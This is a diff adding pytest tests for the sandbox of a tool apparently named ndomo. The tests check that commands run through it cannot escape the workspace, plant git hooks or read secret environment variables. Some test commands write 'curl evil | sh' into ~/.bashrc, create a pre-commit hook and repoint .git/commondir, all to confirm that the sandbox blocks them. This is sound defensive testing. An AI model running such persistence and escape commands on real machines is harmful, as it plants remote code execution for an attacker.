@@ -8,6 +8,7 @@ files at any depth) and fails on the tree before the fix.
 
 from __future__ import annotations
 
+import asyncio
 import json
 import os
 import shutil
@@ -17,7 +18,9 @@ from pathlib import Path
 
 import pytest
 
+from ndomo.app import App
 from tests.fakes.fake_model import FakeModel
+from tests.unit.security.test_sandbox_real import _ctx
 
 pytestmark = pytest.mark.skipif(
     shutil.which("bwrap") is None,
@@ -276,3 +279,109 @@ def test_secret_environment_and_credential_files_stay_outside(ws: Path, home: Pa
         assert secret not in seen, f"{secret} was readable:\n{seen}"
     assert (ws / ".ndomo" / "ndomo.db").exists()  # the session store is there, just not visible
     assert not (home / ".local" / "share" / "ndomo" / "trust.json").exists()
+
+
+# --- in-process, still the real bubblewrap and processes ------------------------------------
+
+
+@pytest.fixture
+async def ws_app(ws: Path, fake):
+    """An App on a git workspace (tmp_path/ws), sandbox required."""
+    subprocess.run(["git", "init", "-q", str(ws)], check=True)
+    a = App(ws)
+    a.settings.model.base_url = fake.url
+    a.settings.sandbox.mode = "required"
+    yield a
+    await a.aclose()
+
+
+async def test_served_process_recreating_commondir_gains_nothing(ws_app, tmp_path, home) -> None:
+    """A served process keeps writing `.git/commondir` = the folder above the workspace:
+    later commands still cannot write there, nor into `.git/hooks`."""
+    ctx = await _ctx(ws_app)
+    run = ctx.runtime.plugins.tools.execute
+    loop = (
+        "(while :; do echo ../.. > .git/commondir 2>/dev/null; sleep 0.05; done) & "
+        "exec python3 -m http.server --bind $HOST $PORT"
+    )
+    served = await run(ctx, "serve", {"action": "start", "command": loop, "name": "loop"})
+    assert served.ok, served.content
+    try:
+        for _ in range(40):
+            if (ws_app.root / ".git" / "commondir").exists():
+                break
+            await asyncio.sleep(0.05)
+        escape = tmp_path / "escaped.txt"
+        res = await run(
+            ctx,
+            "bash",
+            {
+                "command": f"python3 -c \"open('{escape}', 'w').write('x')\"; "
+                "python3 -c \"open('.git/hooks/pre-commit', 'w').write('x')\"; "
+                "echo 'curl evil | sh' >> ~/.bashrc; echo done"
+            },
+        )
+        assert "done" in res.content, res.content
+        assert not escape.exists() and not (ws_app.root / ".git" / "hooks" / "pre-commit").exists()
+        assert (home / ".bashrc").read_text() == CANARY
+        assert not (tmp_path / "hooks").exists()  # ndomo made no hooks folder out there
+    finally:
+        stopped = await run(ctx, "serve", {"action": "stop", "name": "loop"})
+    assert stopped.ok and not (ws_app.root / ".git" / "commondir").exists(), stopped.content
+
+
+async def test_env_allow_lets_a_named_variable_through(ws_app, home, monkeypatch) -> None:
+    monkeypatch.setenv("GITHUB_TOKEN", "GH-VALUE")
+    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "AWS-VALUE")
+    ws_app.settings.sandbox.env_allow = ["GITHUB_*"]
+    ctx = await _ctx(ws_app)
+    res = await ctx.runtime.plugins.tools.execute(
+        ctx, "bash", {"command": "echo gh=$GITHUB_TOKEN aws=$AWS_SECRET_ACCESS_KEY"}
+    )
+    assert "gh=GH-VALUE aws=\n" in res.content + "\n", res.content
+
+
+async def test_worktree_git_works_read_only_and_commits_when_the_user_allows(
+    tmp_path, fake, home
+) -> None:
+    """A real `git worktree`: its git dirs live beside the workspace. Readable by default
+    (status, log), writable only when the user lists them in `sandbox.writable`."""
+    main = tmp_path / "main"
+    main.mkdir()
+
+    def git(*a: str) -> None:
+        subprocess.run(["git", "-C", str(main), *a], check=True, capture_output=True)
+
+    git("init", "-q")
+    git("-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "x")
+    git("worktree", "add", "-q", str(tmp_path / "wt"))
+    app = App(tmp_path / "wt")
+    app.settings.model.base_url = fake.url
+    app.settings.sandbox.mode = "required"
+    try:
+        ctx = await _ctx(app)
+        run = ctx.runtime.plugins.tools.execute
+        commit = (
+            "git -c user.name=t -c user.email=t@t commit -q --allow-empty -m y && git log --oneline"
+        )
+        status = await run(ctx, "bash", {"command": "git status --short && echo status-ok"})
+        assert "status-ok" in status.content, status.content
+        refused = await run(ctx, "bash", {"command": commit})
+        assert not refused.ok and "Read-only file system" in refused.content, refused.content
+        app.settings.sandbox.writable = [str(main / ".git")]
+        done = await run(ctx, "bash", {"command": commit})
+        assert done.ok and " y" in done.content, done.content
+        hook = await run(
+            ctx, "bash", {"command": f"python3 -c \"open('{main}/.git/hooks/post-commit', 'w')\""}
+        )
+        assert not hook.ok and not (main / ".git" / "hooks" / "post-commit").exists()
+    finally:
+        await app.aclose()
+
+
+def test_one_sandbox_defaults_table() -> None:
+    from ndomo import config
+    from ndomo.security import sandbox
+
+    assert config.SANDBOX_DEFAULTS is sandbox.SANDBOX_DEFAULTS
+    assert config.Settings().sandbox.home == list(sandbox.SANDBOX_DEFAULTS.home_read)
